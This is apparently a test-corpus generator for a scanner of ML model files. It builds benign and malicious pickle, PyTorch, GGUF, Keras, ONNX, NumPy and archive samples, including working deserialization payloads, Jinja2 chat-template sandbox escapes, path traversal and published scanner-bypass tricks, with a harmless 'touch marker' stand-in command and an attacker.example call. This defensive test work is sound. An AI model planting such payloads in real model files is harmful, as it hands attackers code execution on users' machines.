"""The generated test corpus: every format of the deep scan, a benign and a malicious sample of
each, and the published scanner-bypass classes. Nothing is downloaded.

Every malicious payload, if it ever ran, would create the file named by `marker` -- the
side-effect tests assert it never appears. Fake `torch` / `joblib.numpy_pickle` modules make the
standard pickler emit exactly the globals real checkpoints contain without installing torch.
"""

from __future__ import annotations

import base64
import collections
import io
import json
import marshal
import os
import pickle
import struct
import sys
import tarfile
import types
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any


@dataclass(frozen=True)
class Sample:
    name: str
    data: bytes
    #: issue codes the scan must report ((), for a benign sample: nothing at all)
    expect: frozenset[str]
    #: (module, name) globals the scan must name, for pickle payloads
    globals_: frozenset[tuple[str, str]] = frozenset()
    #: format the scan must detect
    fmt: str | None = None

    @property
    def malicious(self) -> bool:
        return bool(self.expect)


# -- payloads ---------------------------------------------------------------------------------


def _shell(marker: Path) -> str:
    return f"touch {marker}"


class _Reduce:
    """An object whose unpickling calls func(*args)."""

    def __init__(self, func: Callable[..., Any], *args: Any) -> None:
        self.func = func
        self.args = args

    def __reduce__(self) -> tuple[Any, ...]:
        return (self.func, self.args)


class _Global:
    """Pickles as a bare reference to module.name (GLOBAL / STACK_GLOBAL), with args via REDUCE."""

    def __init__(self, module: str, name: str, *args: Any) -> None:
        self.module, self.name, self.args = module, name, args


def _reduce_global(module: str, name: str, args: tuple[Any, ...], protocol: int = 2) -> bytes:
    """GLOBAL module name + args + REDUCE, assembled directly: the callable need not exist here."""
    body = io.BytesIO()
    if protocol >= 2:
        body.write(b"\x80" + bytes([protocol]))
    body.write(b"c" + module.encode() + b"\n" + name.encode() + b"\n")
    inner = pickle.dumps(args, protocol=protocol)
    # strip PROTO (and FRAME) and the STOP of the args pickle
    inner = _strip(inner)
    body.write(inner + b"R.")
    return body.getvalue()


def _strip(p: bytes) -> bytes:
    if p[:1] == b"\x80":
        p = p[2:]
    if p[:1] == b"\x95":
        p = p[9:]
    assert p.endswith(b".")
    return p[:-1]


def os_system(marker: Path, protocol: int = 4) -> bytes:
    return pickle.dumps(_Reduce(os.system, _shell(marker)), protocol=protocol)


# -- fake torch / joblib modules ----------------------------------------------------------------


@contextmanager
def fake_modules() -> Iterator[types.SimpleNamespace]:
    """torch._utils._rebuild_tensor_v2, torch.FloatStorage and friends as importable fakes."""
    names = ["torch", "torch._utils", "torch.nn", "torch.nn.modules", "torch.nn.modules.linear"]
    saved = {n: sys.modules.get(n) for n in names}
    torch = types.ModuleType("torch")
    utils = types.ModuleType("torch._utils")

    def _rebuild_tensor_v2(*args: Any) -> None: ...

    _rebuild_tensor_v2.__module__ = "torch._utils"
    _rebuild_tensor_v2.__qualname__ = "_rebuild_tensor_v2"
    utils._rebuild_tensor_v2 = _rebuild_tensor_v2  # type: ignore[attr-defined]
    storage = type("FloatStorage", (), {"__module__": "torch"})
    torch.FloatStorage = storage  # type: ignore[attr-defined]
    torch._utils = utils  # type: ignore[attr-defined]
    linear_mod = types.ModuleType("torch.nn.modules.linear")
    linear = type("Linear", (), {"__module__": "torch.nn.modules.linear"})
    linear_mod.Linear = linear  # type: ignore[attr-defined]
    sys.modules.update(
        {
            "torch": torch,
            "torch._utils": utils,
            "torch.nn": types.ModuleType("torch.nn"),
            "torch.nn.modules": types.ModuleType("torch.nn.modules"),
            "torch.nn.modules.linear": linear_mod,
        }
    )
    try:
        yield types.SimpleNamespace(rebuild=_rebuild_tensor_v2, storage=storage, linear=linear)
    finally:
        for n, mod in saved.items():
            if mod is None:
                sys.modules.pop(n, None)
            else:
                sys.modules[n] = mod


class _Tensor:
    def __init__(self, fake: types.SimpleNamespace, key: str, numel: int) -> None:
        self.fake, self.key, self.numel = fake, key, numel

    def __reduce__(self) -> tuple[Any, ...]:
        st = _StorageRef(self.fake.storage, self.key, self.numel)
        return (self.fake.rebuild, (st, 0, (self.numel,), (1,), False, collections.OrderedDict()))


class _StorageRef:
    def __init__(self, cls: type, key: str, numel: int) -> None:
        self.cls, self.key, self.numel = cls, key, numel


class _TorchPickler(pickle.Pickler):
    def persistent_id(self, obj: Any) -> Any:
        if isinstance(obj, _StorageRef):
            return ("storage", obj.cls, obj.key, "cpu", obj.numel)
        return None


def torch_state_pickle(n_tensors: int = 3, extra: Any = None) -> bytes:
    """The data.pkl of torch.save(state_dict): OrderedDict of _rebuild_tensor_v2 calls."""
    with fake_modules() as fake:
        sd = collections.OrderedDict(
            (f"layer{i}.weight", _Tensor(fake, str(i), 4)) for i in range(n_tensors)
        )
        if extra is not None:
            sd["extra"] = extra
        buf = io.BytesIO()
        _TorchPickler(buf, protocol=2).dump(sd)
        return buf.getvalue()


def torch_zip(data_pkl: bytes, *, prefix: str = "archive", tensor_bytes: int = 16) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr(f"{prefix}/data.pkl", data_pkl)
        z.writestr(f"{prefix}/byteorder", "little")
        for i in range(3):
            z.writestr(f"{prefix}/data/{i}", struct.pack("<f", 1.5) * (tensor_bytes // 4))
        z.writestr(f"{prefix}/version", "3\n")
        z.writestr(f"{prefix}/.data/serialization_id", "1234567890")
    return buf.getvalue()


def torch_legacy(main: Callable[[types.SimpleNamespace], Any]) -> bytes:
    """torch.save(..., _use_new_zipfile_serialization=False): stacked pickles then raw data."""
    buf = io.BytesIO()
    with fake_modules() as fake:
        for obj in (
            0x1950A86A20F9469CFC6C,
            1001,
            {"protocol_version": 1001, "little_endian": True, "type_sizes": {"int": 4}},
        ):
            pickle.dump(obj, buf, protocol=2)
        p = _TorchPickler(buf, protocol=2)
        p.dump(main(fake))
        pickle.dump(["0", "1", "2"], buf, protocol=2)
    for _ in range(3):
        buf.write(struct.pack("<q", 128) + b"\x80" * 512)  # raw storages start like PROTO
    return buf.getvalue()


def torch_legacy_state(fake: types.SimpleNamespace) -> Any:
    return collections.OrderedDict((f"w{i}", _Tensor(fake, str(i), 4)) for i in range(3))


def torchscript(code: str, data_pkl: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("model/data.pkl", data_pkl)
        z.writestr("model/constants.pkl", pickle.dumps((), protocol=2))
        z.writestr("model/code/__torch__/model.py", code)
        z.writestr("model/version", "3\n")
    return buf.getvalue()


def torchscript_data() -> bytes:
    """data.pkl of a scripted module: a __torch__ class rebuilt with BUILD state."""
    return (
        b"\x80\x02c__torch__.model\nNet\nq\x00)\x81q\x01}q\x02X\x08\x00\x00\x00trainingq\x03\x88sb."
    )


BENIGN_TS_CODE = """class Net(Module):
  __parameters__ = []
  training : bool
  def forward(self: __torch__.model.Net, x: Tensor) -> Tensor:
    return torch.relu(x)
"""
EVIL_TS_CODE = """class Net(Module):
  training : bool
  def forward(self: __torch__.model.Net, x: Tensor) -> Tensor:
    _0 = ops.evil_ns.run_shell("touch marker")
    return ops.aten.save(x, "/tmp/stolen.pt")
"""


# -- safetensors, GGUF, NumPy -------------------------------------------------------------------


def safetensors_file(
    tensors: dict[str, tuple[str, list[int], bytes]],
    meta: dict[str, str] | None = None,
    *,
    header: dict[str, Any] | None = None,
) -> bytes:
    hdr: dict[str, Any] = {}
    if meta is not None:
        hdr["__metadata__"] = meta
    data = b""
    for name, (dtype, shape, raw) in tensors.items():
        hdr[name] = {
            "dtype": dtype,
            "shape": shape,
            "data_offsets": [len(data), len(data) + len(raw)],
        }
        data += raw
    if header is not None:
        hdr = header
    h = json.dumps(hdr).encode()
    h += b" " * (-len(h) % 8)
    return struct.pack("<Q", len(h)) + h + data


def benign_safetensors() -> bytes:
    return safetensors_file(
        {"w": ("F32", [2, 2], b"\0" * 16), "b": ("F16", [2], b"\0" * 4)}, {"format": "pt"}
    )


def evil_safetensors() -> bytes:
    hdr = {
        "w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]},
        "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]},  # overlaps w
        "x": {"dtype": "F32", "shape": [1 << 30], "data_offsets": [0, 1 << 32]},  # past the end
    }
    return safetensors_file({}, header=hdr) + b"\0" * 24


def _gguf_str(s: str) -> bytes:
    b = s.encode()
    return struct.pack("<Q", len(b)) + b


def gguf_file(template: str) -> bytes:
    kv = [
        (_gguf_str("general.architecture"), 8, _gguf_str("llama")),
        (_gguf_str("llama.context_length"), 4, struct.pack("<I", 4096)),
        (
            _gguf_str("tokenizer.ggml.tokens"),
            9,
            struct.pack("<IQ", 8, 3) + b"".join(_gguf_str(t) for t in ("<s>", "</s>", "hi")),
        ),
        (
            _gguf_str("tokenizer.ggml.scores"),
            9,
            struct.pack("<IQ", 6, 3) + struct.pack("<3f", 0.0, 0.0, -1.0),
        ),
        (_gguf_str("tokenizer.chat_template"), 8, _gguf_str(template)),
    ]
    out = b"GGUF" + struct.pack("<IQQ", 3, 1, len(kv))
    for key, vtype, value in kv:
        out += key + struct.pack("<I", vtype) + value
    # one tensor info and its data
    out += _gguf_str("tok_embd.weight") + struct.pack("<I", 1) + struct.pack("<Q", 4)
    out += struct.pack("<I", 0) + struct.pack("<Q", 0)
    out += b"\0" * (-len(out) % 32) + b"\0" * 16
    return out


BENIGN_TEMPLATE = (
    "{{ bos_token }}{% for message in messages %}{% if message['role'] == 'user' %}"
    "{{ '<|user|>\\n' + message['content'] + eos_token }}{% elif message['role'] == 'system' %}"
    "{{ '<|system|>\\n' + message['content'] + eos_token }}{% else %}"
    "{{ '<|assistant|>\\n' + message['content'] + eos_token }}{% endif %}"
    "{% if loop.last and add_generation_prompt %}{{ '<|assistant|>' }}{% endif %}{% endfor %}"
)
EVIL_TEMPLATE = (
    "{% for message in messages %}{{ message['content'] }}{% endfor %}"
    "{{ cycler.__init__.__globals__.os.popen('touch marker').read() }}"
)
EVIL_TEMPLATE_OBFUSCATED = (
    "{% set g = '_' ~ '_glo' ~ 'bals_' ~ '_' %}{% for message in messages %}"
    "{{ (lipsum|attr(g))['os'].popen('touch marker') }}{% endfor %}"
)


def npy(array_bytes: bytes, descr: str, shape: tuple[int, ...]) -> bytes:
    header = repr({"descr": descr, "fortran_order": False, "shape": shape}).encode()
    header += b" " * (-(10 + len(header) + 1) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + array_bytes


def npy_object(payload_pickle: bytes) -> bytes:
    return npy(payload_pickle, "|O", (1,))


def npz(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()


# -- protobuf (ONNX, SavedModel) ------------------------------------------------------------------


def _varint(n: int) -> bytes:
    out = b""
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out += bytes([b | 0x80])
        else:
            return out + bytes([b])


def pb_int(field: int, value: int) -> bytes:
    return _varint(field << 3) + _varint(value)


def pb_bytes(field: int, value: bytes | str) -> bytes:
    v = value.encode() if isinstance(value, str) else value
    return _varint(field << 3 | 2) + _varint(len(v)) + v


def onnx_model(nodes: list[tuple[str, str]], external: str | None = None) -> bytes:
    graph = b""
    for i, (domain, op) in enumerate(nodes):
        node = pb_bytes(1, "x") + pb_bytes(2, f"y{i}") + pb_bytes(3, f"n{i}") + pb_bytes(4, op)
        if domain:
            node += pb_bytes(7, domain)
        graph += pb_bytes(1, node)
    graph += pb_bytes(2, "g")
    tensor = pb_int(1, 4) + pb_int(2, 1) + pb_bytes(8, "W")
    if external is None:
        tensor += pb_bytes(9, b"\0" * 16)
    else:
        tensor += pb_bytes(13, pb_bytes(1, "location") + pb_bytes(2, external)) + pb_int(14, 1)
    graph += pb_bytes(5, tensor)
    graph += pb_bytes(11, pb_bytes(1, "x")) + pb_bytes(12, pb_bytes(1, "y0"))
    opsets = pb_bytes(8, pb_bytes(1, "") + pb_int(2, 17))
    return pb_int(1, 8) + pb_bytes(2, "pytorch") + pb_bytes(3, "2.5") + pb_bytes(7, graph) + opsets


def saved_model(ops: list[str]) -> bytes:
    graph = b"".join(
        pb_bytes(1, pb_bytes(1, f"n{i}") + pb_bytes(2, op)) for i, op in enumerate(ops)
    )
    fn = pb_bytes(1, pb_bytes(1, "__inference_fn")) + pb_bytes(
        3, pb_bytes(1, "f0") + pb_bytes(2, "Identity")
    )
    graph += pb_bytes(2, pb_bytes(1, fn))
    meta = pb_bytes(1, pb_bytes(1, "serve")) + pb_bytes(2, graph)
    return pb_int(1, 1) + pb_bytes(2, meta)


# -- Keras --------------------------------------------------------------------------------------


def _lambda_blob(source: str) -> str:
    code = compile(source, "<lambda>", "eval")
    return base64.b64encode(marshal.dumps(code)).decode()


def keras_config(
    lambda_source: str | None = None, custom_module: str | None = None
) -> dict[str, Any]:
    layers: list[dict[str, Any]] = [
        {
            "module": "keras.layers",
            "class_name": "Dense",
            "config": {"name": "dense", "units": 4, "activation": "relu"},
            "registered_name": None,
        }
    ]
    if lambda_source is not None:
        layers.append(
            {
                "module": "keras.layers",
                "class_name": "Lambda",
                "config": {
                    "name": "lambda",
                    "function": {
                        "module": "builtins",
                        "class_name": "function",
                        "config": _lambda_blob(lambda_source),
                        "registered_name": "function",
                    },
                },
                "registered_name": None,
            }
        )
    if custom_module is not None:
        layers.append(
            {
                "module": custom_module,
                "class_name": "Backdoor",
                "config": {"name": "backdoor"},
                "registered_name": "custom>Backdoor",
            }
        )
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "sequential", "layers": layers},
        "registered_name": None,
    }


def keras_file(config: dict[str, Any]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.5.0"}))
        z.writestr("config.json", json.dumps(config))
        z.writestr("model.weights.h5", weights_h5())
    return buf.getvalue()


def weights_h5() -> bytes:
    import h5py

    buf = io.BytesIO()
    with h5py.File(buf, "w") as h5:
        h5.create_dataset("layers/dense/vars/0", data=[[0.0, 1.0]])
    return buf.getvalue()


def h5_file(path: Path, config: dict[str, Any]) -> bytes:
    import h5py

    with h5py.File(path, "w") as h5:
        h5.attrs["model_config"] = json.dumps(config)
        h5.attrs["keras_version"] = "2.15.0"
        h5.create_dataset("model_weights/dense/kernel", data=[[0.0, 1.0]])
    data = path.read_bytes()
    path.unlink()
    return data


# -- joblib -------------------------------------------------------------------------------------


def joblib_file(obj: Any, compress: int | tuple[str, int] = 0) -> bytes:
    import joblib

    buf = io.BytesIO()
    joblib.dump(obj, buf, compress=compress)
    return buf.getvalue()


# -- archives -----------------------------------------------------------------------------------


def tar_gz(members: dict[str, bytes], *, gz: bool = True) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz" if gz else "w") as tar:
        for name, data in members.items():
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            tar.addfile(ti, io.BytesIO(data))
    return buf.getvalue()


def zip_file(members: dict[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()


def zip_bad_crc(name: str, data: bytes) -> bytes:
    """A stored entry whose CRC-32 (local header and central directory) is wrong."""
    raw = bytearray(zip_file({name: data}, compression=zipfile.ZIP_STORED))
    crc = struct.pack("<I", zipfile.crc32(data) if hasattr(zipfile, "crc32") else _crc(data))
    bad = struct.pack("<I", 0xDEADBEEF)
    return bytes(raw).replace(crc, bad)


def _crc(data: bytes) -> int:
    import zlib

    return zlib.crc32(data)


def zip_name_lie(real: str, shown: str, data: bytes) -> bytes:
    """Central directory names `shown`, the local header names `real` (same length)."""
    assert len(real) == len(shown)
    raw = zip_file({real: data}, compression=zipfile.ZIP_STORED)
    cd = raw.rfind(b"PK\x01\x02")
    return raw[:cd] + raw[cd:].replace(real.encode(), shown.encode())


def seven_zip(members: dict[str, bytes], tmp: Path) -> bytes:
    import py7zr

    path = tmp / "sample.7z"
    with py7zr.SevenZipFile(path, "w") as z:
        for name, data in members.items():
            z.writestr(data, name)
    data = path.read_bytes()
    path.unlink()
    return data


def nested_zip(inner: bytes, levels: int, name: str = "payload.pkl") -> bytes:
    data, member = inner, name
    for i in range(levels):
        data = zip_file({member: data})
        member = f"level{i}.zip"
    return data


# -- the corpus ---------------------------------------------------------------------------------


def build(marker: Path, tmp: Path) -> list[Sample]:
    """All samples; `marker` is the file any payload would create if it ever ran."""
    cmd = _shell(marker)
    evil = os_system(marker)
    crit = frozenset({"pickle-global"})
    posix = frozenset({(os.system.__module__, "system")})
    good_state = torch_state_pickle()
    import numpy as np

    obj_arr = np.empty(1, dtype=object)
    obj_arr[0] = _Reduce(os.system, cmd)
    evil_npy = io.BytesIO()
    np.save(evil_npy, obj_arr, allow_pickle=True)
    good_npy = io.BytesIO()
    np.save(good_npy, np.arange(12, dtype=np.float32).reshape(3, 4))
    stack_global_memo = (
        b"\x80\x04\x95\x00\x00\x00\x00\x00\x00\x00\x00"
        b"\x8c\x02os\x94\x8c\x06system\x94"
        + b"00"
        + b"h\x00h\x01\x93\x94"
        + b"\x8c"
        + bytes([len(cmd)])
        + cmd.encode()
        + b"\x85R."
    )
    getattr_chain = (
        b"\x80\x02cbuiltins\ngetattr\n(cbuiltins\n__import__\n(X\x02\x00\x00\x00ostRX\x06\x00"
        b"\x00\x00systemtR(X" + struct.pack("<I", len(cmd)) + cmd.encode() + b"tR."
    )
    broken_after_payload = (
        b"cos\nsystem\n(S'" + cmd.encode() + b"'\ntR" + b"\xff\xfe garbage that stops parsers"
    )
    samples = [
        # pickle, every protocol
        Sample(
            "benign-p0.pkl",
            pickle.dumps({"lr": 0.1, "layers": [1, 2]}, protocol=0),
            frozenset(),
            fmt="pickle",
        ),
        Sample(
            "benign-p2.pkl",
            pickle.dumps(collections.OrderedDict(a=(1, 2.0, "x")), protocol=2),
            frozenset(),
            fmt="pickle",
        ),
        Sample(
            "benign-p5.pkl",
            pickle.dumps({"blob": bytearray(b"\1" * 32), "s": {1, 2}}, protocol=5),
            frozenset(),
            fmt="pickle",
        ),
        Sample("evil-p0.pkl", os_system(marker, 0), crit, posix, fmt="pickle"),
        Sample("evil-p1.pkl", os_system(marker, 1), crit, posix, fmt="pickle"),
        Sample("evil-p4.pkl", evil, crit, posix, fmt="pickle"),
        Sample("evil-p5.pkl", os_system(marker, 5), crit, posix, fmt="pickle"),
        # PyTorch zip, legacy, TorchScript
        Sample("benign-pytorch_model.bin", torch_zip(good_state), frozenset(), fmt="pytorch-zip"),
        Sample(
            "evil-pytorch_model.bin",
            torch_zip(torch_state_pickle(extra=_Reduce(os.system, cmd))),
            crit,
            posix,
            fmt="pytorch-zip",
        ),
        Sample(
            "benign-legacy.pt", torch_legacy(torch_legacy_state), frozenset(), fmt="pytorch-legacy"
        ),
        Sample(
            "evil-legacy.pt",
            torch_legacy(lambda _f: {"w": _Reduce(os.system, cmd)}),
            crit,
            posix,
            fmt="pytorch-legacy",
        ),
        Sample(
            "benign-scripted.pt",
            torchscript(BENIGN_TS_CODE, torchscript_data()),
            frozenset(),
            fmt="torchscript",
        ),
        Sample(
            "evil-scripted.pt",
            torchscript(EVIL_TS_CODE, torchscript_data()),
            frozenset({"torchscript-op"}),
            fmt="torchscript",
        ),
        # safetensors
        Sample("benign.safetensors", benign_safetensors(), frozenset(), fmt="safetensors"),
        Sample(
            "evil.safetensors",
            evil_safetensors(),
            frozenset({"safetensors-invalid-header"}),
            fmt="safetensors",
        ),
        # GGUF
        Sample("benign.gguf", gguf_file(BENIGN_TEMPLATE), frozenset(), fmt="gguf"),
        Sample("evil.gguf", gguf_file(EVIL_TEMPLATE), frozenset({"gguf-template"}), fmt="gguf"),
        Sample(
            "evil-obfuscated.gguf",
            gguf_file(EVIL_TEMPLATE_OBFUSCATED),
            frozenset({"gguf-template"}),
            fmt="gguf",
        ),
        Sample(
            "benign-tokenizer_config.json",
            json.dumps({"chat_template": BENIGN_TEMPLATE, "eos_token": "</s>"}).encode(),
            frozenset(),
            fmt="json",
        ),
        Sample(
            "evil-tokenizer_config.json",
            json.dumps({"chat_template": EVIL_TEMPLATE}).encode(),
            frozenset({"chat-template"}),
            fmt="json",
        ),
        # ONNX
        Sample(
            "benign.onnx",
            onnx_model([("", "Relu"), ("com.microsoft", "FusedMatMul")], external="weights.bin"),
            frozenset(),
            fmt="onnx",
        ),
        Sample(
            "evil.onnx",
            onnx_model(
                [("", "Relu"), ("com.evil.ops", "Shell")], external="../../../../etc/passwd"
            ),
            frozenset({"onnx-custom-op", "onnx-external-data"}),
            fmt="onnx",
        ),
        # Keras
        Sample("benign.keras", keras_file(keras_config()), frozenset(), fmt="keras"),
        Sample(
            "evil.keras",
            keras_file(keras_config(f"__import__('os').system('{cmd}')")),
            frozenset({"keras-lambda"}),
            fmt="keras",
        ),
        Sample(
            "evil-custom.keras",
            keras_file(keras_config(custom_module="evil_layers.backdoor")),
            frozenset({"keras-custom-object"}),
            fmt="keras",
        ),
        Sample("benign.h5", h5_file(tmp / "b.h5", keras_config()), frozenset(), fmt="hdf5"),
        Sample(
            "evil.h5",
            h5_file(tmp / "e.h5", keras_config(f"__import__('os').system('{cmd}')")),
            frozenset({"keras-lambda"}),
            fmt="hdf5",
        ),
        # TensorFlow SavedModel
        Sample(
            "benign-saved_model.pb",
            saved_model(["Placeholder", "MatMul", "SaveV2", "RestoreV2"]),
            frozenset(),
            fmt="tf-savedmodel",
        ),
        Sample(
            "evil-saved_model.pb",
            saved_model(["Placeholder", "ReadFile", "PyFunc"]),
            frozenset({"tf-dangerous-op"}),
            fmt="tf-savedmodel",
        ),
        # joblib (plain and compressed)
        Sample(
            "benign.joblib",
            joblib_file({"coef": np.arange(10.0), "names": ["a", "b"]}),
            frozenset(),
            fmt="joblib",
        ),
        Sample(
            "benign-compressed.joblib",
            joblib_file({"coef": np.arange(10.0)}, compress=3),
            frozenset(),
            fmt="zlib",
        ),
        Sample(
            "evil.joblib",
            joblib_file({"coef": np.arange(4.0), "x": _Reduce(os.system, cmd)}),
            crit,
            posix,
            fmt="joblib",
        ),
        Sample(
            "evil-compressed.joblib",
            joblib_file({"x": _Reduce(os.system, cmd)}, compress=3),
            crit,
            posix,
            fmt="zlib",
        ),
        # NumPy
        Sample("benign.npy", good_npy.getvalue(), frozenset(), fmt="numpy"),
        Sample(
            "evil.npy",
            evil_npy.getvalue(),
            frozenset({"numpy-object-array", "pickle-global"}),
            posix,
            fmt="numpy-object",
        ),
        Sample("benign.npz", npz({"a.npy": good_npy.getvalue()}), frozenset(), fmt="npz"),
        Sample(
            "evil.npz",
            npz({"a.npy": good_npy.getvalue(), "b.npy": evil_npy.getvalue()}),
            frozenset({"numpy-object-array", "pickle-global"}),
            posix,
            fmt="npz",
        ),
        # archives
        Sample(
            "benign-model.tar.gz",
            tar_gz(
                {
                    "model/model.safetensors": benign_safetensors(),
                    "model/config.json": b'{"model_type": "bert"}',
                }
            ),
            frozenset(),
            fmt="tar.gz",
        ),
        Sample(
            "evil-model.tar.gz",
            tar_gz({"model/model.pkl": evil, "model/config.json": b"{}"}),
            crit,
            posix,
            fmt="tar.gz",
        ),
        Sample(
            "benign.7z",
            seven_zip({"model.safetensors": benign_safetensors()}, tmp),
            frozenset(),
            fmt="7z",
        ),
        Sample("evil.7z", seven_zip({"weights/model.pkl": evil}, tmp), crit, posix, fmt="7z"),
        Sample(
            "evil-nested.zip",
            zip_file(
                {
                    "inner.tar.gz": tar_gz(
                        {
                            "model/pytorch_model.bin": torch_zip(
                                torch_state_pickle(extra=_Reduce(os.system, cmd))
                            )
                        }
                    )
                }
            ),
            crit,
            posix,
            fmt="zip",
        ),
        Sample(
            "benign-nested.zip",
            zip_file({"inner.tar.gz": tar_gz({"model/pytorch_model.bin": torch_zip(good_state)})}),
            frozenset(),
            fmt="zip",
        ),
        # published bypass classes
        Sample(
            "bypass-runpy.pkl",
            _reduce_global("runpy", "_run_code", (f"import os; os.system('{cmd}')", {})),
            crit,
            frozenset({("runpy", "_run_code")}),
        ),
        Sample(
            "bypass-getattr-chain.pkl",
            getattr_chain,
            crit,
            frozenset({("builtins", "getattr"), ("builtins", "__import__")}),
        ),
        Sample(
            "bypass-pip.pkl",
            _reduce_global("pip", "main", (["install", "evil-package"],)),
            crit,
            frozenset({("pip", "main")}),
        ),
        Sample(
            "bypass-subprocess.pkl",
            _reduce_global("subprocess", "Popen", (["touch", str(marker)],)),
            crit,
            frozenset({("subprocess", "Popen")}),
        ),
        Sample(
            "bypass-webbrowser.pkl",
            _reduce_global("webbrowser", "open", ("https://attacker.example/",)),
            crit,
            frozenset({("webbrowser", "open")}),
        ),
        Sample(
            "bypass-importlib.pkl",
            _reduce_global("importlib", "import_module", ("os",)),
            crit,
            frozenset({("importlib", "import_module")}),
        ),
        Sample(
            "bypass-torch-load-bytes.pkl",
            _reduce_global("torch.storage", "_load_from_bytes", (evil,)),
            crit,
            frozenset({("torch.storage", "_load_from_bytes")}),
        ),
        Sample(
            "bypass-unknown-module.pkl",
            _reduce_global("innocent_helpers.tools", "run", ("x",)),
            crit,
            frozenset({("innocent_helpers.tools", "run")}),
        ),
        Sample(
            "bypass-dotted-name.pkl",
            _reduce_global("collections", "OrderedDict.__init__.__globals__", ()),
            crit,
        ),
        Sample(
            "bypass-stack-global-memo.pkl", stack_global_memo, crit, frozenset({("os", "system")})
        ),
        Sample(
            "bypass-broken-after-payload.pkl",
            broken_after_payload,
            frozenset({"pickle-global", "parse-error-after-suspicious-opcode"}),
            frozenset({("os", "system")}),
        ),
        Sample("bypass-weights.msgpack", evil, crit, posix, fmt="pickle"),
        Sample(
            "bypass-zip-name-lie.zip",
            zip_file({"README.txt": evil, "weights.json": evil}),
            crit,
            posix,
        ),
        Sample(
            "bypass-zip-bad-crc.zip",
            zip_bad_crc("data.pkl", evil),
            frozenset({"pickle-global", "zip-crc-mismatch"}),
            posix,
        ),
        Sample(
            "bypass-zip-header-lie.zip",
            zip_name_lie("data.pkl", "data.txt", evil),
            frozenset({"pickle-global", "zip-name-mismatch"}),
            posix,
        ),
        Sample("bypass-polyglot.pt", evil + torch_zip(good_state), crit, posix, fmt="pickle"),
    ]
    return samples
